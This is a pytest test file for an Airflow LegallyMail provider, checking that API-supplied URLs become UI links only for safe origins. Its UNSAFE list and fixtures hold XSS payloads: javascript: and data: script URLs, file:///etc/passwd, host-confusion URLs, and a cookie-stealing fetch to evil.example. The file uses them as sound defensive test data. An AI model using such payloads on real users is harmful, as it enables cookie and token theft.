"""URLs an API answer supplies become extra links only when they are http(s) to the connection or LegallyMail.

A hostile or broken server chooses these URLs; a link is clicked in a browser logged in to Airflow. The
archive, ``SignatureRequestOperator`` and the sensors push none of the others, and say so in the log
without the URL (nor the token). Names say what a link opens and sort naturally.
"""

from __future__ import annotations

import logging
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import requests_mock as rm

from airflow_provider_legallymail.evidence.links import link_entries, link_url
from airflow_provider_legallymail.links import EVIDENCE_LINKS_XCOM_KEY
from airflow_provider_legallymail.models.legallymail import SignatureRequest
from airflow_provider_legallymail.operators.evidence import ArchiveEvidenceOperator
from airflow_provider_legallymail.operators.legallymail import SignatureRequestOperator
from airflow_provider_legallymail.sensors.legallymail import CertifiedEmailSensor, SignatureSensor
from tests.conftest import LM_URL, TOKEN
from tests.unit.evidence.fakes import FakeApi

OWN = "http://127.0.0.1:8080"  # a sandbox connection's origin
UNSAFE = [
    f"javascript:alert('{TOKEN}')",
    "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"https://evil.example/c.pdf?t={TOKEN}",
    "https://legallymail.com.evil.example/c.pdf",
    "https://legallymail.com:8443/c.pdf",  # another port is another origin
    "http://legallymail.com/c.pdf",  # another scheme too
    "https://evil.example\\@legallymail.com/c.pdf",  # parsers disagree on the host
    "http://127.0.0.1:9090/c.pdf",  # the connection's host on another port
    "//evil.example/c.pdf",
    "/relative/c.pdf",
]
SAFE = ["https://legallymail.com/emails/download-certificate?id=cm_1&status=read", f"{OWN}/dashboard/x.pdf"]


@pytest.mark.parametrize("url", UNSAFE)
def test_anything_but_http_s_to_the_connection_or_legallymail_is_dropped_and_logged_without_it(
    url: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING)
    assert link_url(url, "http://127.0.0.1:8080", "Audit trail (acta)") is None
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "Dropped the link 'Audit trail (acta)'" in logged
    assert TOKEN not in logged and "evil" not in logged and "alert" not in logged


@pytest.mark.parametrize("url", SAFE)
def test_the_connection_s_origin_and_the_documented_host_become_links(url: str) -> None:
    assert link_url(url, "http://127.0.0.1:8080", "x") == url


def test_link_names_say_what_they_open_and_sort_naturally() -> None:
    candidates = [(f"recipient{n}@example.com: read certificate (cm_1)", f"{OWN}/c?id={n}") for n in (10, 2, 1, 21, 3)]
    labels = [e["label"] for e in link_entries([*candidates, ("bad", "javascript:x")], "http://127.0.0.1:8080", 20)]
    assert [label.split(":")[0] for label in labels] == [f"recipient{n}@example.com" for n in (1, 2, 3, 10, 21)]
    assert len(link_entries(candidates, "http://127.0.0.1:8080", 2)) == 2


def context(ti: FakeTI, **extra: Any) -> Any:
    return {"ti": ti, **extra}


class FakeTI:
    def __init__(self) -> None:
        self.xcom: dict[str, Any] = {}

    def xcom_push(self, key: str, value: Any) -> None:
        self.xcom[key] = value


@pytest.mark.usefixtures("lm_conn")
def test_the_archive_pushes_no_unsafe_link_even_before_it_refuses_to_download(tmp_path: Path) -> None:
    ti = FakeTI()
    with rm.Mocker() as m:
        api = FakeApi(m)
        body = api.email()
        recipients = body["email"]["recipients"]
        recipients[0]["certificates"][0]["pdf_download_url"] = "javascript:fetch('//evil.example/'+document.cookie)"
        m.get(f"{LM_URL}/api/email?tracking_id=cm_abc123", json=body)
        op = ArchiveEvidenceOperator(task_id="archive", evidence="cm_abc123", kind="email", destination=tmp_path)
        with pytest.raises(Exception, match="url"):
            op.execute(context(ti, ds="2024-01-15"))
    links = ti.xcom[EVIDENCE_LINKS_XCOM_KEY]
    assert [link["label"] for link in links] == ["recipient2@example.com: delivered certificate (cm_abc123)"]
    assert all(link["url"].startswith(f"{LM_URL}/") for link in links)


def hook(detail: SignatureRequest | None = None) -> Any:
    settings = SimpleNamespace(base_url=OWN, origin=f"{OWN}")
    return SimpleNamespace(settings=settings, get_signature=lambda uuid: detail)


def signature(status: str, original: str, acta: str) -> SignatureRequest:
    data = {"uuid": "u1", "status": status, "download_original_url": original, "download_acta_url": acta}
    return SignatureRequest.from_api(data, "Europe/Madrid")


@pytest.mark.parametrize(
    ("status", "original", "acta", "expected"),
    [
        ("pending", "data:text/html,<script>alert(1)</script>", f"{OWN}/a/u1", ("", f"{OWN}/a/u1")),
        ("pending", f"{OWN}/o/u1", "vbscript:msgbox(1)", (f"{OWN}/o/u1", "")),
        ("expired", f"{OWN}/o/u1", f"{OWN}/a/u1", (f"{OWN}/o/u1", "")),  # an expired request has no acta link
        (
            "declined",
            "https://legallymail.com/o/u1",
            "https://legallymail.com/a/u1",
            ("https://legallymail.com/o/u1", ""),
        ),
    ],
)
def test_signature_request_operator_links_only_safe_urls_and_no_acta_once_expired(
    status: str, original: str, acta: str, expected: tuple[str, str]
) -> None:
    op = SignatureRequestOperator(task_id="sign", document=b"%PDF-1.4", signers=[{"name": "A", "email": "a@x.com"}])
    op.__dict__["hook"] = hook(signature(status, original, acta))
    links = op.links([{"uuid": "u1"}])
    assert (links["original_document"], links["acta"]) == expected
    assert links["dashboard"] == f"{OWN}/dashboard"


def test_sensors_push_no_unsafe_link_and_name_each_one() -> None:
    email_result = {
        "kind": "email",
        "recipients": [
            {"who": "r10@x.com", "id": "cm_1", "certificates": [{"type": "read", "url": f"{OWN}/c/10"}]},
            {"who": "r2@x.com", "id": "cm_1", "certificates": [{"type": "read", "url": "javascript:alert(1)"}]},
            {"who": "r3@x.com", "id": "cm_1", "certificates": [{"type": "delivered", "url": f"{OWN}/c/3"}]},
        ],
    }
    signature_result = {
        "kind": "signature",
        "signers": [{"who": "a@x.com", "id": "u1", "certificates": []}],
        "documents": {"u1": {"original": "file:///etc/passwd", "acta": "https://legallymail.com/a/u1"}},
    }
    pushed = {}
    for sensor, result in (
        (CertifiedEmailSensor(task_id="w", tracking_id="cm_1"), email_result),
        (SignatureSensor(task_id="w", uuid="u1"), signature_result),
    ):
        sensor.__dict__["hook"] = hook()
        ti = FakeTI()
        sensor._finish_wait(context(ti), {"status": "reached", "result": {**result, "target": "x", "ids": []}})
        pushed[result["kind"]] = ti.xcom[EVIDENCE_LINKS_XCOM_KEY]
    assert pushed["email"] == [
        {"label": "r3@x.com: delivered certificate (cm_1)", "url": f"{OWN}/c/3"},
        {"label": "r10@x.com: read certificate (cm_1)", "url": f"{OWN}/c/10"},
    ]
    assert pushed["signature"] == [{"label": "Audit trail (acta) (u1)", "url": "https://legallymail.com/a/u1"}]
